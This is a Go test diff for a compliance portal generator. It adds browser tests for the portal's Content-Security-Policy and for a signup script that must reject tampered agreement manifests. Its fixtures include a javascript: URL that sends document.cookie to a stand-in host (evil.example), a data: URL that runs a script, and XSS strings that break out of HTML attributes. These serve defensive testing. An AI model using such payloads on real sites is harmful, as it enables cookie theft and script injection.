@@ -2,8 +2,10 @@ package e2e
 
 import (
 	"context"
+	"encoding/json"
 	"flag"
 	"fmt"
+	"html"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -14,11 +16,13 @@ import (
 	"testing"
 	"time"
 
+	cdplog "github.com/chromedp/cdproto/log"
 	"github.com/chromedp/chromedp"
 	"github.com/chromedp/chromedp/kb"
 
 	"github.com/trustportal/trustportal/generator"
 	"github.com/trustportal/trustportal/generator/chrome"
+	"github.com/trustportal/trustportal/generator/emit"
 	"github.com/trustportal/trustportal/generator/model"
 	"github.com/trustportal/trustportal/generator/release"
 	"github.com/trustportal/trustportal/generator/testportal"
@@ -71,6 +75,7 @@ func setup(t *testing.T) *env {
 		mux := http.NewServeMux()
 		mux.Handle("/", http.FileServer(http.Dir(out)))
 		mux.HandleFunc("/_test/", testPages)
+		mux.HandleFunc("/_test/manifest/", e.hostileManifest)
 		e.server = httptest.NewServer(mux)
 		cleanup = append(cleanup, e.server.Close)
 		u, _ := url.Parse(e.server.URL)
@@ -114,6 +119,21 @@ func testPages(w http.ResponseWriter, r *http.Request) {
 <form><iframe id="dpa" title="AVV" src="`+r.URL.Query().Get("embed")+`" style="width:600px;height:400px"></iframe></form></body></html>`)
 	case "/_test/inaccessible.html":
 		fmt.Fprint(w, `<!doctype html><html><head><title>x</title></head><body><img src="/none.png"><input type="text"></body></html>`)
+	case "/_test/csp.html":
+		fmt.Fprint(w, `<!doctype html><html lang="en"><head><meta http-equiv="Content-Security-Policy" content="`+emit.ContentSecurityPolicy+`">
+<title>csp</title></head><body><p style="color: red">x</p><script>document.title = "ran"</script></body></html>`)
+	case "/_test/accept.html":
+		// A signup form on the portal's host, filled by dpa-accept.js from
+		// the manifest named in ?manifest=.
+		fmt.Fprint(w, `<!doctype html><html lang="de"><head><title>Signup</title></head><body>
+<form data-dpa-manifest="`+html.EscapeString(r.URL.Query().Get("manifest"))+`" data-dpa-lang="de">
+<input type="hidden" name="dpa_version" value="server">
+<input type="hidden" name="dpa_language" value="server">
+<input type="hidden" name="dpa_sha256" value="server">
+<label><input type="checkbox" name="dpa_accept" value="yes">
+<a data-dpa-link href="/server/">AVV (Version <span data-dpa-version>server</span>)</a></label>
+<iframe data-dpa-embed title="AVV" src="about:blank"></iframe>
+</form><script src="/js/dpa-accept.js"></script></body></html>`)
 	case "/_test/leak.html":
 		fmt.Fprint(w, `<!doctype html><html><head><title>leak</title></head><body><img alt="" src="https://tracker.example.net/pixel.gif"></body></html>`)
 	default:
@@ -129,12 +149,16 @@ func (e *env) tab(t *testing.T) context.Context {
 	if err != nil {
 		t.Fatal(err)
 	}
+	csp := watchCSP(t, ctx)
 	// A bound for a hung browser, not a speed target: a test that runs
 	// axe-core on 15 pages takes over a minute on a busy 2-core machine.
 	ctx, cancelTimeout := context.WithTimeout(ctx, 5*time.Minute)
 	t.Cleanup(func() {
 		if foreign := rec.Foreign(e.host); len(foreign) > 0 {
 			t.Errorf("requests left localhost: %v", foreign)
+		}
+		if v := csp.get(); len(v) > 0 {
+			t.Errorf("Content-Security-Policy violations: %v", v)
 		}
 		cancelTimeout()
 		cancel()
@@ -143,6 +167,37 @@ func (e *env) tab(t *testing.T) context.Context {
 }
 
 func (e *env) url(path string) string { return e.server.URL + path }
+
+// cspLog keeps the browser's reports of Content-Security-Policy violations
+// in a tab.
+type cspLog struct {
+	mu      sync.Mutex
+	reports []string
+}
+
+// watchCSP records every violation of a Content-Security-Policy that the
+// browser reports in the tab of ctx (its console's security messages).
+func watchCSP(t *testing.T, ctx context.Context) *cspLog {
+	t.Helper()
+	l := &cspLog{}
+	err := chromedp.Listen(ctx, func(ev any) {
+		if e, ok := ev.(*cdplog.EventEntryAdded); ok && strings.Contains(e.Entry.Text, "Content Security Policy") {
+			l.mu.Lock()
+			l.reports = append(l.reports, e.Entry.URL+": "+e.Entry.Text)
+			l.mu.Unlock()
+		}
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return l
+}
+
+func (l *cspLog) get() []string {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return append([]string(nil), l.reports...)
+}
 
 func do(t *testing.T, ctx context.Context, steps ...chromedp.Action[chromedp.Void]) {
 	t.Helper()
@@ -383,4 +438,138 @@ func axeViolations(t *testing.T, ctx context.Context, axe, page string) string {
 		t.Fatalf("%s: axe.run: %v", page, err)
 	}
 	return got
+}
+
+// hostileManifests change the portal's manifest as an attacker who can
+// publish a file at its address would.
+var hostileManifests = map[string]func(current map[string]any, de map[string]any){
+	"javascript URL and a hash of zeros": func(_, de map[string]any) {
+		de["url"] = "javascript:fetch('http://evil.example/?'+document.cookie)"
+		de["sha256"] = strings.Repeat("0", 64)
+	},
+	"another origin": func(_, de map[string]any) {
+		de["url"] = "http://evil.example/de/dpa/2.0/"
+		de["embed_url"] = "http://evil.example/de/dpa/2.0/embed.html"
+	},
+	"protocol-relative URL": func(_, de map[string]any) { de["embed_url"] = "//evil.example/embed.html" },
+	"data URL":              func(_, de map[string]any) { de["embed_url"] = "data:text/html,<script>parent.alert(1)</script>" },
+	"markup as the hash":    func(_, de map[string]any) { de["sha256"] = `"><img src=x onerror=alert(1)>` },
+	"markup as the version": func(cur, _ map[string]any) { cur["version"] = `2.0"><img src=x onerror=alert(1)>` },
+}
+
+// hostileManifest serves /api/dpa.json changed by the hostileManifests entry
+// named by the path's last segment.
+func (e *env) hostileManifest(w http.ResponseWriter, r *http.Request) {
+	data, err := os.ReadFile(filepath.Join(e.out, "api", "dpa.json"))
+	var m map[string]any
+	if err == nil {
+		err = json.Unmarshal(data, &m)
+	}
+	change, ok := hostileManifests[strings.TrimPrefix(r.URL.Path, "/_test/manifest/")]
+	if err != nil || !ok {
+		http.Error(w, fmt.Sprint("no such manifest: ", err), http.StatusNotFound)
+		return
+	}
+	cur := m["current"].(map[string]any)
+	change(cur, cur["languages"].(map[string]any)["de"].(map[string]any))
+	w.Header().Set("Content-Type", "application/json")
+	json.NewEncoder(w).Encode(m)
+}
+
+// acceptForm loads a signup form filled by dpa-accept.js from manifest and
+// returns what the script made of it: "filled" or "refused", and the
+// form's values.
+func acceptForm(t *testing.T, ctx context.Context, e *env, manifest string) (outcome string, values []string) {
+	t.Helper()
+	do(t, ctx, chromedp.Navigate(e.url("/_test/accept.html?manifest="+url.QueryEscape(manifest))))
+	for range 100 {
+		outcome = eval[string](t, ctx, `(() => { const f = document.forms[0];
+			return f.hasAttribute('data-dpa-filled') ? 'filled' : f.hasAttribute('data-dpa-refused') ? 'refused' : '' })()`)
+		if outcome != "" {
+			break
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	values = eval[[]string](t, ctx, `(() => { const f = document.forms[0];
+		return [f.dpa_version.value, f.dpa_language.value, f.dpa_sha256.value,
+			f.querySelector('a[data-dpa-link]').href, f.querySelector('[data-dpa-version]').textContent,
+			f.querySelector('iframe[data-dpa-embed]').src] })()`)
+	return outcome, values
+}
+
+// TestAcceptScriptChecksTheManifest: dpa-accept.js fills the form from the
+// portal's manifest, and from a manifest with a link that is not the
+// portal's, or a hash or version that is not one, it fills nothing.
+func TestAcceptScriptChecksTheManifest(t *testing.T) {
+	e := setup(t)
+	ctx := e.tab(t)
+	cur := release.NewTimeline(e.portal.Model, today).Current
+	entry, _ := e.portal.Lock.Find(cur.Version)
+	outcome, got := acceptForm(t, ctx, e, "/api/dpa.json")
+	want := []string{cur.Version, "de", entry.Texts["dpa.de"], e.url("/de/dpa/" + cur.Version + "/"), cur.Version,
+		e.url("/de/dpa/" + cur.Version + "/embed.html")}
+	if outcome != "filled" || strings.Join(got, " ") != strings.Join(want, " ") {
+		t.Errorf("the portal's manifest: %s %q, want filled %q", outcome, got, want)
+	}
+	server := []string{"server", "server", "server", e.url("/server/"), "server", "about:blank"}
+	for name := range hostileManifests {
+		t.Run(name, func(t *testing.T) {
+			outcome, got := acceptForm(t, ctx, e, "/_test/manifest/"+name)
+			if outcome != "refused" || strings.Join(got, " ") != strings.Join(server, " ") {
+				t.Errorf("%s %q, want refused and the server's values %q", outcome, got, server)
+			}
+		})
+	}
+}
+
+// TestNoCSPViolation loads every page type, the embedded view in a signup
+// page included, and uses the language and version switches: the browser
+// reports no violation of the portal's Content-Security-Policy (the tab
+// fails the test on any).
+func TestNoCSPViolation(t *testing.T) {
+	e := setup(t)
+	ctx := e.tab(t)
+	pages := []string{
+		"/", "/de/", "/en/", "/de/dpa/", "/en/dpa/1.0/", "/de/toms/", "/en/toms/2.0/", "/de/subprocessors/",
+		"/en/subprocessors/3.0/", "/de/processor/", "/en/versions/", "/de/diff/1.1/2.0/", "/en/diff/2.0/3.0/",
+		"/de/dpa/2.0/embed.html", "/en/404.html", "/_test/signup.html?embed=/de/dpa/2.0/embed.html",
+	}
+	for _, p := range pages {
+		do(t, ctx, chromedp.Navigate(e.url(p)))
+		if got := eval[string](t, ctx, "document.readyState"); got != "complete" {
+			t.Errorf("%s: %s", p, got)
+		}
+	}
+	do(t, ctx, chromedp.Navigate(e.url("/de/dpa/#"+cspAnchor(e))), chromedp.Click(chromedp.CSS(".lang-switch a[hreflang]")))
+	waitLocation(t, ctx, e.url("/en/dpa/#"+cspAnchor(e)))
+}
+
+func cspAnchor(e *env) string {
+	return release.NewTimeline(e.portal.Model, today).Current.Docs.DPA.Clauses[0].ID
+}
+
+// TestCSPWatchSeesViolations makes sure the check can fail: a page with the
+// portal's policy and an inline script and style is reported.
+func TestCSPWatchSeesViolations(t *testing.T) {
+	e := setup(t)
+	ctx, _, cancel, err := chrome.NewTab(e.browser)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer cancel()
+	csp := watchCSP(t, ctx)
+	do(t, ctx, chromedp.Navigate(e.url("/_test/csp.html")))
+	if got := eval[string](t, ctx, "document.title"); got != "csp" {
+		t.Errorf("the inline script ran: title %q", got)
+	}
+	var reports []string
+	for range 50 {
+		if reports = csp.get(); len(reports) >= 2 {
+			break
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	if joined := strings.Join(reports, "\n"); !strings.Contains(joined, "script-src") || !strings.Contains(joined, "style-src") {
+		t.Errorf("violations reported: %v, want the inline script and the inline style", reports)
+	}
 }
